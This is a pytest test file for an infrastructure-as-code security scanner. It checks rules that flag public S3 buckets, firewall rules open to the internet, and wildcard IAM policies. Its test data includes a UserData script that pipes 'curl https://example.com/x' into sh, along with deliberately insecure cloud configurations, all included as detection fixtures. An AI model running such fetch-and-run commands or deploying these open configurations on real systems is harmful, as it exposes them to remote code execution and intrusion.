"""What clouds open to the world, and to whom, in every way that it is written."""

import pytest

CFN = "Parameters:\n  Mode: {Type: String, Default: PublicRead}\n  Other: {Type: String}\nResources:\n  B:\n    Type: AWS::S3::Bucket\n    Properties:\n      AccessControl: "
GOOGLE = 'resource "google_compute_firewall" "f" {{\n  {more}\n  source_ranges = ["{world}"]\n  allow {{\n    protocol = "{protocol}"\n    {ports}\n  }}\n}}\n'
AZURE = '  direction = "{direction}"\n  access = "Allow"\n  protocol = "*"\n  source_address_prefix = "{source}"\n  destination_port_ranges = ["{ports}"]\n'
AWS = 'resource "aws_security_group_rule" "r" {{\n  type = "ingress"\n  from_port = {low}\n  to_port = {high}\n  protocol = "{protocol}"\n  cidr_blocks = ["{world}"]\n}}\n'


def ids(audit, text, path=None):
    return sorted({item.rule.id for item in audit(text, path)})


@pytest.mark.parametrize(("value", "found"), [
    ("PublicRead", True), ("!Ref Mode", True), ("{Ref: Mode}", True), ("{'Fn::Sub': PublicRead}", True), ("!Ref Other", False), ("{Ref: Other}", False),
    ("{'Fn::If': [a, PublicRead, Private]}", False), ("!If [a, PublicRead, Private]", False), ("!Sub '${Mode}'", False), ("Private", False),
])  # fmt: skip
def test_functions_of_templates(audit, value, found):
    assert ("IAC-S3-PUBLIC-ACL" in ids(audit, CFN + value + "\n")) is found


def test_scripts_of_templates_are_read(audit):
    text = "Resources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: |\n          #!/bin/sh\n          curl https://example.com/x | sh\n"
    assert ids(audit, text) == ["IAC-CURL-SH"]
    assert ids(audit, text.replace("Fn::Base64: |", "Fn::Base64: !Sub |")) == ["IAC-CURL-SH"]


@pytest.mark.parametrize(("text", "found"), [
    (GOOGLE.format(more="", world="0.0.0.0/0", protocol="tcp", ports='ports = ["20-25", "443"]'), ["IAC-NET-OPEN-ADMIN"]),
    (GOOGLE.format(more="", world="0.0.0.0/0", protocol="tcp", ports='ports = ["8888"]'), ["IAC-NET-OPEN-PLANE"]),
    (GOOGLE.format(more="", world="0.0.0.0/0", protocol="tcp", ports=""), ["IAC-NET-OPEN-ALL"]),
    (GOOGLE.format(more="", world="0.0.0.0/0", protocol="icmp", ports=""), []),
    (GOOGLE.format(more="", world="10.0.0.0/8", protocol="all", ports=""), []),
    (GOOGLE.format(more="disabled = true", world="0.0.0.0/0", protocol="all", ports=""), []),
    (AWS.format(low=22, high=22, protocol="udp", world="0.0.0.0/0"), []),
    (AWS.format(low=0, high=65535, protocol="tcp", world="::/0"), ["IAC-NET-OPEN-ALL"]),
    (AWS.format(low=-1, high=-1, protocol="tcp", world="0.0.0.0/0"), ["IAC-NET-OPEN-ALL"]),
    (AWS.format(low="var.x", high="var.x", protocol="tcp", world="0.0.0.0/0"), []),
    (AWS.format(low=6379, high=6379, protocol="tcp", world="0.0.0.0/0"), ["IAC-NET-OPEN-STORE"]),
    (AWS.format(low=22, high=22, protocol="tcp", world="0.0.0.0/0").replace('"ingress"', '"egress"'), []),
    ('resource "azurerm_network_security_group" "g" {\n  security_rule {\n' + AZURE.format(direction="Inbound", source="Internet", ports="3389") + "  }\n}\n",
     ["IAC-NET-OPEN-ADMIN"]),
    ('resource "azurerm_network_security_rule" "g" {\n' + AZURE.format(direction="Inbound", source="*", ports="*") + "}\n", ["IAC-NET-OPEN-ALL"]),
    ('resource "azurerm_network_security_rule" "g" {\n' + AZURE.format(direction="Outbound", source="*", ports="*") + "}\n", []),
    ('resource "azurerm_network_security_rule" "g" {\n' + AZURE.format(direction="Inbound", source="10.0.0.0/8", ports="*") + "}\n", []),
    ('resource "aws_vpc_security_group_ingress_rule" "r" {\n  cidr_ipv6 = "::/0"\n  ip_protocol = "-1"\n}\n', ["IAC-NET-OPEN-ALL"]),
    ("Resources:\n  R:\n    Type: AWS::EC2::SecurityGroupIngress\n    Properties: {IpProtocol: '-1', CidrIpv6: '::/0'}\n", ["IAC-NET-OPEN-ALL"]),
])  # fmt: skip
def test_what_is_open_to_the_world(audit, text, found):
    assert ids(audit, text) == found


POLICY = 'resource "aws_iam_policy" "p" {{\n  policy = jsonencode({{ Statement = [{{ {rest} }}] }})\n}}\n'


@pytest.mark.parametrize(("rest", "found"), [
    ('Effect = "Allow", NotAction = "iam:*", Resource = "*"', ["IAC-IAM-WILDCARD"]),
    ('Effect = "Allow", Action = "*", Resource = "*", Condition = { Bool = { "aws:MultiFactorAuthPresent" = "true" } }', []),
    ('Effect = "Allow", Action = "iam:*", Resource = "*"', ["IAC-IAM-PASS-ROLE"]),
    ('Effect = "Allow", Action = ["cloudwatch:*"], Resource = "*"', []),
    ('Effect = "Allow", Action = ["kinesis:*"], Resource = "*"', ["IAC-IAM-SERVICE-WILDCARD"]),
    ('Effect = var.x, Action = "*", Resource = "*"', []),
    ('Action = "*", Resource = "*"', []),
])  # fmt: skip
def test_what_policies_allow(audit, rest, found):
    assert ids(audit, POLICY.format(rest=rest)) == found


def test_a_document_of_a_bucket_lets_everybody_in(audit):
    text = 'data "aws_iam_policy_document" "d" {\n  statement {\n    actions = ["s3:GetObject"]\n    resources = ["*"]\n    principals {\n      type = "*"\n      identifiers = ["*"]\n    }\n  }\n}\n'
    assert ids(audit, text) == ["IAC-S3-PUBLIC-POLICY"]
    assert ids(audit, text.replace("    principals", '    condition {\n      test = "x"\n    }\n    principals')) == []


def test_a_policy_that_is_no_json_is_no_crash(audit):
    assert (
        ids(
            audit,
            'resource "aws_iam_policy" "p" {\n  policy = "{[}"\n}\nresource "aws_iam_policy" "q" {\n  policy = "arn"\n}\n',
        )
        == []
    )
